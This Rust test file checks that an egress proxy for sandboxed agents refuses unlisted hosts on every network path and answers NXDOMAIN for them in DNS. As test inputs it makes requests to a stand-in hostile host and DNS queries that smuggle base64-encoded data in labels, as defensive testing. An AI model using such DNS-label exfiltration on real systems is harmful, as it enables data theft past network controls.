//! Names outside an allowlist are refused on every path (E7, E8) and do not even resolve (E9).

use agenthold_egress::log::{Decision, LogKind};
use serde_json::json;

use super::harness::{BLOCKED_ORIG, Harness, Setup, allow};

// covers: E7, E8
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs root and nftables: run with make test"]
async fn denied_names_are_refused_on_every_path_with_the_reason() {
    let h = Harness::start(Setup::new().policy(allow(&["api.test"]))).await;
    let proxy = h.proxy_url(0);
    // The sandbox cannot resolve evil.test (see below), so it aims at an address it picked itself.
    let to = |port: u16| format!("evil.test:{port}:{BLOCKED_ORIG}:{port}");

    // Transparent TLS: closed before any byte of a ServerHello.
    let tls = h.curl(0, &["--connect-to", &to(443), "https://evil.test/"]).await;
    assert_eq!(tls.code, 35, "curl: SSL connect error: {tls:?}");
    // Transparent plain HTTP: 403 with the reason.
    let http = h.curl(0, &["--connect-to", &to(80), "http://evil.test/x"]).await;
    assert_eq!(http.status, 403, "{http:?}");
    assert!(http.body.contains("not_in_allowlist"), "{http:?}");
    // Explicit proxy, absolute form: 403 with the reason.
    let absolute = h.curl(0, &["-x", &proxy, "http://evil.test/x"]).await;
    assert_eq!(absolute.status, 403, "{absolute:?}");
    assert!(absolute.body.contains("not_in_allowlist"), "{absolute:?}");
    // Explicit proxy, CONNECT (curl with HTTPS_PROXY): the tunnel is refused with 403 …
    let connect = h
        .curl_env(0, &[("HTTPS_PROXY", &proxy)], &["-v", "https://evil.test/"])
        .await;
    assert_eq!(connect.code, 56, "{connect:?}");
    assert!(
        connect.stderr.contains("CONNECT tunnel failed, response 403"),
        "{}",
        connect.stderr
    );
    // … and the body of that 403 says why (curl does not print it; a raw client does).
    let raw = h
        .py(
            0,
            &[
                "session",
                &h.gw(0).to_string(),
                "15002",
                &json!(["CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"]).to_string(),
                "sequential",
            ],
        )
        .await;
    assert_eq!(raw[0]["status"], 403, "{raw}");
    assert!(
        raw[0]["body"].as_str().unwrap().contains("not_in_allowlist"),
        "{raw}"
    );

    // Control: the same paths for the allowed name work, so the refusals above are the policy's.
    assert_eq!(
        h.curl(
            0,
            &[
                "--connect-to",
                "api.test:443:198.51.100.7:443",
                "https://api.test/"
            ]
        )
        .await
        .status,
        200
    );
    assert_eq!(h.curl(0, &["-x", &proxy, "http://api.test/"]).await.status, 200);

    assert_eq!(
        h.web("evil.test").total(),
        0,
        "nothing reached evil.test's upstreams"
    );
    let denied = |kind| {
        let entries = h.entries(0, kind, "evil.test");
        assert!(!entries.is_empty(), "no {kind:?} entry: {:#?}", h.log(0));
        for e in &entries {
            assert_eq!(e.decision, Decision::Denied, "{e:?}");
            assert_eq!(
                e.reason.as_ref().map(ToString::to_string).as_deref(),
                Some("not_in_allowlist"),
                "{e:?}"
            );
        }
        entries
    };
    assert_eq!(denied(LogKind::Tls)[0].port, Some(443));
    let http_entries = denied(LogKind::Http);
    assert!(
        http_entries.iter().all(|e| e.status == Some(403)),
        "{http_entries:#?}"
    );
    assert_eq!(http_entries.len(), 2, "transparent and absolute-form");
    let connects = denied(LogKind::Connect);
    assert_eq!(connects.len(), 2);
    assert!(
        connects
            .iter()
            .all(|e| e.status == Some(403) && e.method.as_deref() == Some("CONNECT"))
    );
    h.close().await;
}

// covers: E9
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "needs root and nftables: run with make test"]
async fn unlisted_names_get_nxdomain_and_never_reach_the_upstream_resolver() {
    let h = Harness::start(
        Setup::new()
            .policy(allow(&["listed.test", "api.test", "*.wild.test"]))
            .record("listed.test", &["93.184.216.34"])
            .record("unlisted.test", &["93.184.216.35"])
            .record("data.wild.test", &["93.184.216.36"])
            .record("wild.test", &["93.184.216.37"]),
    )
    .await;
    let gw = h.gw(0).to_string();
    // Whatever address a query is sent to, the sandbox's DNS ends at the gateway's resolver: its own .2,
    // a public resolver, the host's nameserver.
    let host_ns = std::fs::read_to_string("/etc/resolv.conf")
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("nameserver ").map(|a| a.trim().to_owned()))
        .filter(|a| a.parse::<std::net::Ipv4Addr>().is_ok_and(|a| !a.is_loopback()))
        .unwrap_or_else(|| "8.8.8.8".to_owned());
    let servers = [gw.as_str(), "1.1.1.1", host_ns.as_str()];

    // Control: a listed name is forwarded upstream and answered.
    for server in servers {
        let answer = h.py(0, &["dns", server, "listed.test", "A", "udp"]).await;
        assert_eq!(answer["rcode"], 0, "{server}: {answer}");
        assert_eq!(answer["addrs"], json!(["93.184.216.34"]), "{server}: {answer}");
        assert_eq!(answer["id_ok"], true);
    }
    let tcp = h.py(0, &["dns", &gw, "listed.test", "A", "tcp"]).await;
    assert_eq!(tcp["addrs"], json!(["93.184.216.34"]), "{tcp}");
    let listed = h.dns.queries().iter().filter(|q| q.name == "listed.test").count();
    // At least once: the resolver's per-agent cache answers the repeats.
    assert!(
        listed >= 1,
        "the upstream saw the listed name: {:?}",
        h.dns.queries()
    );
    // IPv4 only towards sandboxes: AAAA is NOERROR without records.
    let aaaa = h.py(0, &["dns", &gw, "listed.test", "AAAA", "udp"]).await;
    assert_eq!(
        (aaaa["rcode"].as_u64(), aaaa["answers"].as_u64()),
        (Some(0), Some(0)),
        "{aaaa}"
    );

    // Unlisted names: NXDOMAIN over UDP and TCP, for every type, to every server address; a wildcard covers
    // subdomains only; data smuggled in labels goes nowhere.
    let mut unlisted = Vec::new();
    for server in servers {
        for (name, qtype, transport) in [
            ("unlisted.test", "A", "udp"),
            ("unlisted.test", "AAAA", "udp"),
            ("unlisted.test", "TXT", "udp"),
            ("unlisted.test", "A", "tcp"),
            ("wild.test", "A", "udp"),
            ("c2VjcmV0LWRhdGE.exfil.unlisted.test", "TXT", "udp"),
            ("c2VjcmV0.listed.test.evil.test", "A", "tcp"),
        ] {
            let answer = h.py(0, &["dns", server, name, qtype, transport]).await;
            assert_eq!(
                answer["rcode"], 3,
                "{server} {name} {qtype}/{transport}: {answer}"
            );
            assert_eq!(answer["answers"], 0, "{answer}");
            unlisted.push(name);
        }
    }
    // The system resolver (glibc via the sandbox's resolv.conf) gets the same answers.
    assert_eq!(
        h.exec(0, &[], &["getent", "ahostsv4", "listed.test"])
            .await
            .stdout
            .split_whitespace()
            .next(),
        Some("93.184.216.34")
    );
    assert_eq!(
        h.exec(0, &[], &["getent", "ahostsv4", "unlisted.test"])
            .await
            .code,
        2,
        "not found"
    );
    // A listed subdomain of a wildcard resolves.
    let wild = h.py(0, &["dns", &gw, "data.wild.test", "A", "udp"]).await;
    assert_eq!(wild["addrs"], json!(["93.184.216.36"]), "{wild}");

    // Not one query for an unlisted name reached the upstream.
    let leaked: Vec<_> = h
        .dns
        .queries()
        .into_iter()
        .filter(|q| unlisted.contains(&q.name.as_str()))
        .collect();
    assert!(leaked.is_empty(), "queries leaked upstream: {leaked:?}");
    let entries = h.entries(0, LogKind::Dns, "unlisted.test");
    assert!(entries.len() >= 4 * servers.len(), "{entries:#?}");
    assert!(
        entries.iter().all(|e| e.decision == Decision::Denied
            && e.reason.as_ref().map(ToString::to_string).as_deref() == Some("not_in_allowlist")
            && e.status == Some(3)),
        "{entries:#?}"
    );
    h.close().await;
}
